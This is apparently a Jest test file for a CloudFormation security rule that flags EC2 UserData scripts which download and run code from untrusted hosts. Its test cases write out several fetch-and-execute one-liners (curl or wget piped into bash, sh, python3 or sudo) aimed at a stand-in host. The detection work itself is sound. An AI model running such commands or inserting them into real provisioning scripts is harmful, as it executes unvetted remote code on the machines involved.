import { describe, expect, test } from '@jest/globals';
import { trustScriptRules } from '../../../src/rules/generic/trust-script';
import type { Trust } from '../../../src/templates/trust';
import { judge, one } from './judge';

const find = (script: unknown, trusts: Trust = {}) =>
  judge(
    trustScriptRules,
    'TrustScriptHostKnown',
    {
      ...one('AWS::EC2::Instance', { UserData: { 'Fn::Base64': script } }),
      Zone: { Type: 'AWS::Route53::HostedZone', Properties: { Name: 'example.com' } },
    },
    { trusts },
  );

describe('scripts that run what they download', () => {
  test.each([
    'curl -s https://get.stranger.example/i.sh | sudo bash',
    'wget -qO- https://get.stranger.example/i.sh | sh',
    'curl -fsSL https://get.stranger.example/i.sh | sudo -E bash -',
    'curl https://get.stranger.example/i.py|python3',
    'bash <(curl -s https://get.stranger.example/i.sh)',
    'sh -c "$(curl -fsSL https://get.stranger.example/i.sh)"',
  ])('%s', (command) => {
    expect(find(`#!/bin/bash\n${command}\n`)).toEqual(['UserData: runs a script of get.stranger.example']);
  });

  test('plain HTTP is told for every host', () => {
    expect(find('curl http://get.example.com/i.sh | bash')).toEqual([
      'UserData: runs a script of get.example.com over plain HTTP',
    ]);
  });

  test.each([
    'curl -s https://get.example.com/i.sh | bash',
    'curl -s https://bucket.s3.eu-central-1.amazonaws.com/i.sh | bash',
    'curl -s https://get.stranger.example/data.json | jq .version',
    'curl -s https://get.stranger.example/i.tgz -o i.tgz\nbash other.sh | tee log',
    'curl http://169.254.169.254/latest/meta-data | sh',
  ])('not %s', (command) => {
    expect(find(command)).toEqual([]);
  });

  test('not a host that the policy trusts', () => {
    expect(find('curl https://get.stranger.example/i | sh', { hosts: ['get.stranger.example'] })).toEqual([]);
  });

  test('a long line takes no long time', () => {
    expect(find('curl https://a.example '.repeat(5000))).toEqual([]);
  });
});
